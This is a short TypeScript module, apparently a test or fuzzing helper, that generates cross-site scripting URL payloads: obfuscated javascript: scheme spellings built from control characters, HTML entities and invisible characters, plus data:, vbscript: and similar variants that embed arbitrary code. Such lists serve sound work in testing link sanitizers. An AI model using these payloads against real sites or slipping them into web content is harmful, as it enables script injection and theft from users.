/** Addresses that run `code` when they are followed, or would if they were read carelessly. */
export function schemePayloads(code: string): readonly string[] {
  const bodies = [code, `//x%0a${code}`, `void(${code})`, `/*x*/${code}//`, `"x";${code}`];
  return [
    ...SPELLINGS.flatMap((scheme) => bodies.map((body) => scheme + body)),
    ...CONTROLS.flatMap((control) => [
      `${control}javascript:${code}`,
      `java${control}script:${code}`,
      `javascript${control}:${code}`,
    ]),
    ...OTHERS.map((address) => address.replace("CODE", code)),
  ];
}

const SPELLINGS = [
  "javascript:",
  "JavaScript:",
  "JAVASCRIPT:",
  " javascript:",
  "\tjavascript:",
  "java\nscript:",
  "java\tscript:",
  "java\r\nscript:",
  "j\na\nv\na\ns\nc\nr\ni\np\nt\n:",
  "javascript\t:",
  "\u0001javascript:",
  "\u001f javascript:",
  "\u0000javascript:",
  "\u200bjavascript:",
  "\u00a0javascript:",
  "\ufeffjavascript:",
  "&#106;avascript:",
  "&#x6a;avascript:",
  "javascript&colon;",
  "java&Tab;script:",
  "java&NewLine;script&colon;",
  "&#0000106avascript:",
];

const CONTROLS = Array.from({ length: 33 }, (_, code) => String.fromCharCode(code));

const OTHERS = [
  "data:text/html,<script>CODE</script>",
  "data:text/html;charset=utf-7,+ADw-script+AD4-CODE+ADw-/script+AD4-",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='CODE'/>",
  "vbscript:CODE",
  "livescript:CODE",
  "feed:javascript:CODE",
  "view-source:javascript:CODE",
  "jar:javascript:CODE",
  "javascript%3ACODE",
  "javascript%253ACODE",
  "//javascript:CODE",
  "http:javascript:CODE",
  "x:javascript:CODE",
  "https://x/\r\njavascript:CODE",
];
